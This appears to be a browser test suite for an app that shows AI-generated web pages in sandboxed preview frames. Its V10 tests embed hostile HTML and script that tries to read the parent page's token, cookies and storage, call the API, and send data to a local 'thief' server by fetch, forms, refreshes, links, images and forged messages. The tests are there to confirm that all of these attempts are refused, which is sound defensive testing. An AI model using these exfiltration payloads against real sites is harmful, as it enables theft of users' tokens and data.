// The application in a real browser: headless Chromium.

import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it, onTestFinished } from 'vitest';
import { startApp, type App } from './app.ts';
import { gatedModel, type GatedModel } from './gated-model.ts';

const FLAGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
];

const profile = mkdtempSync(join(tmpdir(), 'treadle-chromium-'));
let browser: BrowserContext;

beforeAll(async () => {
  browser = await chromium.launchPersistentContext(profile, {
    executablePath: '/usr/bin/chromium',
    args: FLAGS,
    viewport: { width: 1100, height: 980 },
  });
});
afterAll(async () => {
  await browser.close();
  rmSync(profile, { recursive: true, force: true });
});

async function open(models: readonly GatedModel[]): Promise<{ readonly app: App; readonly page: Page }> {
  const app = await startApp({ models: () => models });
  const page = await browser.newPage();
  onTestFinished(async () => {
    await page.close();
    await app.close(0);
  });
  await page.goto(app.url);
  await signIn(page, app.token);
  await page.fill('#prompt', 'A page for a bakery.');
  await page.click('#generate');
  return { app, page };
}

async function signIn(page: Page, token: string): Promise<void> {
  await page.fill('#token', token);
  await page.press('#token', 'Enter');
  await page.locator('#login').waitFor({ state: 'hidden' });
}

/** The generated page of a variant: in a frame of the preview, which is a frame of ours. */
const preview = (page: Page, index: number) =>
  page.frameLocator(`[data-index="${index}"] > iframe`).frameLocator('iframe.shown');

const state = (page: Page, index: number, is: string) => page.locator(`[data-index="${index}"][data-state="${is}"]`);

const COLORS = ['#7a3b2e', '#2e5c7a', '#3d6b35', '#6a3d7a'];

/** A bakery's page of at least so many characters. */
function bakery(index: number, length: number): string {
  const row = (at: number): string =>
    `<li><b>Loaf ${at}</b> baked of rye, wheat and ${'a little patience, '.repeat(8)}every morning.</li>\n`;
  const head =
    `<!doctype html><html><head><style>body{font:16px Georgia;margin:0;padding:1.5rem}h1{background:${COLORS[index]};` +
    `color:white;padding:1rem;border-radius:${index * 8}px}</style></head><body><h1>Bakery ${index + 1}</h1><ul>\n`;
  let rows = '';
  for (let at = 1; head.length + rows.length < length; at += 1) rows += row(at);
  return `${head}${rows}</ul><p id="end">The end of ${index + 1}.</p></body></html>`;
}

it('shows four pages of 200 KB while they are written, and each is complete whatever the others do', async () => {
  const models = [0, 1, 2, 3].map((index) => gatedModel(`writer-${index + 1}`, bakery(index, 200_000), 100_000));
  const { page } = await open(models);
  for (const index of [0, 1, 2, 3]) {
    const frame = preview(page, index);
    await frame.getByText(`Bakery ${index + 1}`).waitFor();
    // Half of it is there, and no more.
    await frame.getByText('Loaf 400', { exact: true }).waitFor({ state: 'attached' });
    expect(await frame.locator('#end').count()).toBe(0);
  }

  models[2]?.finish();
  await state(page, 2, 'complete').waitFor();
  await preview(page, 2).getByText('The end of 3.').waitFor({ state: 'attached' });
  expect(await page.locator('article[data-state]').count()).toBe(1);
  expect(await page.locator('[data-index="2"] .update').isEnabled()).toBe(true);
  expect(await page.locator('[data-index="0"] .update').isEnabled()).toBe(false);

  models[0]?.fail();
  await state(page, 0, 'error').waitFor();
  // The last good picture of it stays.
  await preview(page, 0).getByText('Bakery 1').waitFor();

  models[1]?.finish();
  models[3]?.finish();
  for (const index of [1, 3]) {
    await state(page, index, 'complete').waitFor();
    await preview(page, index)
      .getByText(`The end of ${index + 1}.`)
      .waitFor({ state: 'attached' });
  }
  expect(await page.locator('#generate').isEnabled()).toBe(true);
}, 60_000);

it('V10: lets a generated page reach neither the page around it, nor the token, nor the API', async () => {
  const stolen: string[] = [];
  const thief = createServer((request, response) => {
    stolen.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
  });
  await new Promise<void>((resolve) => {
    thief.listen(0, '127.0.0.1', resolve);
  });
  onTestFinished(() => {
    thief.closeAllConnections();
    thief.close();
  });
  const elsewhere = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
  const hostile = `<!doctype html><html><body><h1>Innocent</h1><ul id="tries"></ul><p id="done"></p><script>
    const report = (name, result) => {
      const entry = document.createElement('li');
      entry.id = name;
      entry.textContent = result;
      document.getElementById('tries').append(entry);
    };
    const attempt = async (name, work) => {
      try { await work(); report(name, 'REACHED'); } catch (error) { report(name, 'refused'); }
    };
    const api = new URL(document.baseURI).origin;
    (async () => {
      // What it may do: without it, nothing below would say anything.
      await attempt('allowed', () => new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = resolve; image.onerror = reject;
        image.src = 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>';
      }));
      await attempt('parent', () => parent.document.body.innerHTML);
      await attempt('top', () => top.document.getElementById('token').value);
      await attempt('navigate', () => { top.location.href = '${elsewhere}/top'; });
      await attempt('storage', () => localStorage.length);
      await attempt('cookie', () => document.cookie);
      await attempt('api', () => fetch(api + '/v1/sessions'));
      await attempt('elsewhere', () => fetch('${elsewhere}/fetch?' + location.href));
      await attempt('image', () => new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = resolve; image.onerror = reject;
        image.src = '${elsewhere}/image';
      }));
      await attempt('socket', () => new Promise((resolve, reject) => {
        const socket = new WebSocket(api.replace('http', 'ws') + '/generate-code', ['treadle.v1']);
        socket.onopen = resolve; socket.onerror = reject;
      }));
      await attempt('popup', () => { if (!open('${elsewhere}/popup')) throw new Error('none'); });
      top.postMessage({ type: 'variantComplete', variantIndex: 3, html: 'FORGED', final: true }, '*');
      parent.postMessage({ html: '<h1>FORGED</h1>', final: true }, '*');
      document.getElementById('done').textContent = 'All tried.';
    })();
  </script></body></html>`;
  const models = [hostile, '<h1>Other</h1>', '<h1>Other</h1>', '<h1>Other</h1>'].map((html, index) =>
    gatedModel(`writer-${index + 1}`, html, index === 3 ? 0 : Infinity),
  );
  const { app, page } = await open(models);
  const frame = preview(page, 0);
  await frame.getByText('All tried.').waitFor();
  const tries = await frame.locator('#tries li').all();
  const results = await Promise.all(
    tries.map(async (entry) => [await entry.getAttribute('id'), await entry.textContent()]),
  );
  expect(Object.fromEntries(results)).toEqual({
    allowed: 'REACHED',
    parent: 'refused',
    top: 'refused',
    navigate: 'refused',
    storage: 'refused',
    cookie: 'refused',
    api: 'refused',
    elsewhere: 'refused',
    image: 'refused',
    socket: 'refused',
    popup: 'refused',
  });
  expect(stolen).toEqual([]);
  // Where it is, nothing has changed, and nobody believed its messages.
  expect(page.url()).toBe(`${app.url}/`);
  expect(await frame.getByText('Innocent').count()).toBe(1);
  expect(await page.locator('article[data-state]').count()).toBe(3);
  // The token is in no address that the browser has seen, and in nothing it keeps.
  const kept = await page.evaluate('JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie])');
  expect(kept).toBe('[{},{},""]');
  expect(page.frames().some((each) => each.url().includes(app.token))).toBe(false);
  models[3]?.finish();
  await state(page, 3, 'complete').waitFor();
}, 60_000);

/** A server that nothing here should ever ask for anything, and what it was asked for. */
async function elsewhereServer(): Promise<{ readonly url: string; readonly asked: string[] }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`);
    response
      .writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' })
      .end('<h1>Elsewhere</h1>');
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked };
}

it('V10: lets a page send nothing away by a refresh, a form, a link, a picture or a drawing either', async () => {
  const { url, asked } = await elsewhereServer();
  const done = '<p id="here">Here.</p>';
  const script = (text: string): string => `<script>${text}; document.body.dataset.ran = 'yes';</script>`;
  const pages = [
    `<meta http-equiv="refresh" content="0;url=${url}/refresh"><body>${done}${script('1')}</body>`,
    `<body><form id="f" method="post" action="${url}/form"><input name="a" value="b"></form>${done}` +
      `${script("document.getElementById('f').submit()")}</body>`,
    // What a renderer makes of ![](…) and [](javascript:…).
    `<body><img src="${url}/picture?secret"><a id="l" href="javascript:fetch('${url}/link')">x</a>` +
      `<a id="t" target="_top" href="${url}/top">y</a>${done}` +
      `${script("document.getElementById('l').click(); document.getElementById('t').click()")}</body>`,
    `<body><svg xmlns="http://www.w3.org/2000/svg"><image href="${url}/svg"/><script>fetch('${url}/svg-script')</script></svg>` +
      `<object data="${url}/object"></object><iframe src="${url}/frame"></iframe>` +
      `<link rel="stylesheet" href="${url}/style"><video src="${url}/video"></video>${done}${script('1')}</body>`,
  ];
  const { app, page } = await open(pages.map((html, index) => gatedModel(`writer-${index + 1}`, html, Infinity)));
  for (const index of [0, 1, 2, 3]) {
    await state(page, index, 'complete').waitFor();
    // Its script has run: that it has sent nothing is not because nothing was tried.
    if (index > 0) await preview(page, index).locator('body[data-ran="yes"]').waitFor({ state: 'attached' });
  }
  // The first was led away, and the browser shows that it may not go there.
  const refused = (): number =>
    page
      .frames()
      .filter((each) => each.url().startsWith('chrome-error:') && each.parentFrame()?.url().endsWith('/preview'))
      .length;
  await expect.poll(refused).toBe(1);
  // Whatever was to be sent would have been by the time that this page has been fetched.
  const other = await browser.newPage();
  onTestFinished(() => other.close());
  await other.goto(`${url}/control`);
  expect(asked.filter((line) => !line.endsWith('/favicon.ico'))).toEqual(['GET /control']);
  expect(page.url()).toBe(`${app.url}/`);
}, 60_000);

/** The preview as the page frames it, and how to send it messages. */
async function framedPreview() {
  const app = await startApp();
  const page = await browser.newPage();
  onTestFinished(async () => {
    await page.close();
    await app.close(0);
  });
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(error.message));
  await page.goto(app.url);
  const seen = (await page.evaluate(`(async () => {
    const outer = document.createElement('iframe');
    outer.setAttribute('sandbox', 'allow-scripts');
    outer.src = '/preview';
    const loaded = new Promise((resolve) => outer.addEventListener('load', resolve));
    document.body.append(outer);
    await loaded;
    return 'loaded';
  })()`)) as string;
  expect(seen).toBe('loaded');
  const frame = page.frames().find((each) => each.url().endsWith('/preview'));
  if (!frame) throw new Error('There is no preview.');
  const send = (message: string): Promise<unknown> =>
    page.evaluate(`document.querySelector('iframe[src="/preview"]').contentWindow.postMessage(${message}, '*')`);
  return { page, frame, errors, send, shown: page.frameLocator('iframe[src="/preview"]').frameLocator('iframe.shown') };
}

it('the preview shows pages that the page sends it, and passes over every other message', async () => {
  const { frame, errors, send, shown } = await framedPreview();
  await frame.evaluate(`
    window.pages = [];
    new MutationObserver((changes) => {
      for (const { addedNodes } of changes) for (const { srcdoc } of addedNodes) window.pages.push(srcdoc);
    }).observe(document.body, { childList: true });
  `);
  await send(`{ html: '<p>One</p>', final: true }`);
  await shown.getByText('One').waitFor();
  for (const message of [
    'null',
    'undefined',
    `'<p>Text</p>'`,
    '1',
    '[]',
    '{}',
    `{ html: '<p>No final</p>' }`,
    '{ final: true }',
    `{ html: 1, final: true }`,
    `{ html: ['<p>List</p>'], final: true }`,
    `{ html: '<p>Text final</p>', final: 'false' }`,
  ]) {
    await send(message);
  }
  await send(`{ html: '<p>Two</p>', final: false, more: 1 }`);
  await shown.getByText('Two').waitFor();
  expect(await frame.evaluate('window.pages')).toEqual(['<p>One</p>', '<p>Two</p>']);
  expect(errors).toEqual([]);
}, 60_000);

it('V14: keeps the last good frame while the next loads, at every beginning of a page', async () => {
  const { frame, errors, send, shown: last } = await framedPreview();
  const text =
    '<!doctype html><html><head><style>h1{color:red}</style></head><body><h1>Tea</h1>' +
    '<script>document.body.dataset.ran = "yes";</script></body></html>';
  // The preview is told each beginning in turn, and looked at after every change that it makes.
  await frame.evaluate(`
    window.least = Infinity;
    new MutationObserver(() => {
      const shown = document.querySelectorAll('iframe.shown').length;
      window.begun = window.begun || shown > 0;
      if (window.begun) window.least = Math.min(window.least, shown);
    }).observe(document.body, { childList: true, subtree: true, attributes: true });
  `);
  for (let length = 1; length <= text.length; length += 1) {
    await send(JSON.stringify({ html: text.slice(0, length), final: length === text.length }));
  }
  await last.locator('body[data-ran="yes"]').getByText('Tea').waitFor();
  expect(await frame.evaluate('window.least')).toBe(1);
  expect(await frame.evaluate("document.querySelectorAll('iframe').length")).toBe(1);
  expect(errors).toEqual([]);
}, 60_000);
